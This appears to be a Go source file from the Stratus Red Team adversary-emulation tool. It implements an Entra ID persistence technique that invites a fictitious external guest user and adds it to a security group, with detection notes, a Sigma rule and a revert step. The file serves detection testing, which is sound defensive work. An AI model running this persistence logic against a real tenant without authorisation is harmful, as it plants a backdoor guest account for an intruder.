@@ -0,0 +1,132 @@
+package entraid
+
+import (
+	"context"
+	_ "embed"
+	"errors"
+	"github.com/datadog/stratus-red-team/internal/graph"
+	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
+)
+
+//go:embed main.tf
+var tf []byte
+
+//go:embed sigma.yml
+var sigma []byte
+
+// Fictitious external e-mail address to invite. No invitation e-mail is sent
+const guestEmail = "stratus-red-team-guest@example.com"
+
+func init() {
+	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
+		ID:           "entra-id.persistence.guest-user-invitation",
+		FriendlyName: "Invite an External User and Add it to a Group",
+		Description: `
+Establishes persistence by inviting an external user as a guest of the tenant, and adding it to a security group
+to grant it access to resources.
+
+Warm-up:
+
+- Create a security group.
+
+Detonation:
+
+- Invite the external user <code>` + guestEmail + `</code> (a fictitious address, no invitation e-mail is sent).
+- Add the resulting guest user to the security group.
+`,
+		Detection: `
+Through Entra ID audit logs, using the <code>Invite external user</code> and <code>Add member to group</code> activities.
+`,
+		SigmaRules:                 sigma,
+		Platform:                   stratus.EntraID,
+		IsIdempotent:               true,
+		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.InitialAccess, mitreattack.Persistence},
+		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"group_object_id"},
+		Detonate:                   detonate,
+		Revert:                     revert,
+		IsDetonated:                isDetonated,
+	})
+}
+
+func detonate(execution *stratus.ExecutionContext) error {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return err
+	}
+	groupId := execution.Parameters["group_object_id"]
+
+	execution.Logger.Println("Inviting external user " + guestEmail)
+	invitation := graph.Invitation{
+		InvitedUserEmailAddress: guestEmail,
+		InviteRedirectUrl:       "https://myapplications.microsoft.com",
+		SendInvitationMessage:   false,
+	}
+	err = client.Post(execution.Context, "/invitations", invitation, &invitation)
+	if err != nil {
+		return errors.New("unable to invite external user: " + err.Error())
+	}
+	if invitation.InvitedUser == nil {
+		return errors.New("unable to invite external user: no guest user was created")
+	}
+	guestId := invitation.InvitedUser.Id
+	execution.Logger.Println("Guest user " + guestId + " was created")
+
+	execution.Logger.Println("Adding guest user to group " + groupId)
+	reference := map[string]string{"@odata.id": client.BaseURL + "/directoryObjects/" + guestId}
+	err = client.Post(execution.Context, "/groups/"+groupId+"/members/$ref", reference, nil)
+	if graph.IsAlreadyExists(err) {
+		// Inviting the same external user again returns the existing guest user, already member of the group
+		execution.Logger.Println("Guest user is already a member of group " + groupId)
+	} else if err != nil {
+		return errors.New("unable to add guest user to the group: " + err.Error())
+	}
+
+	return nil
+}
+
+func revert(execution *stratus.ExecutionContext) error {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return err
+	}
+
+	guests, err := listGuestUsers(execution.Context, client)
+	if err != nil {
+		return err
+	}
+	// Deleting the guest user also removes it from the group
+	for _, guest := range guests {
+		execution.Logger.Println("Deleting guest user " + guest.UserPrincipalName)
+		err := client.Delete(execution.Context, "/users/"+guest.Id)
+		if err != nil {
+			return errors.New("unable to delete guest user: " + err.Error())
+		}
+	}
+
+	return nil
+}
+
+func isDetonated(execution *stratus.ExecutionContext) (bool, error) {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return false, err
+	}
+
+	guests, err := listGuestUsers(execution.Context, client)
+	if err != nil {
+		return false, err
+	}
+	return len(guests) > 0, nil
+}
+
+// listGuestUsers returns the guest users created by inviting guestEmail
+func listGuestUsers(ctx context.Context, client *graph.Client) ([]graph.User, error) {
+	var users graph.ListResponse[graph.User]
+	err := client.Get(ctx, "/users"+graph.Filter("mail", guestEmail, "userType", "Guest"), &users)
+	if err != nil {
+		return nil, errors.New("unable to list guest users: " + err.Error())
+	}
+	return users.Value, nil
+}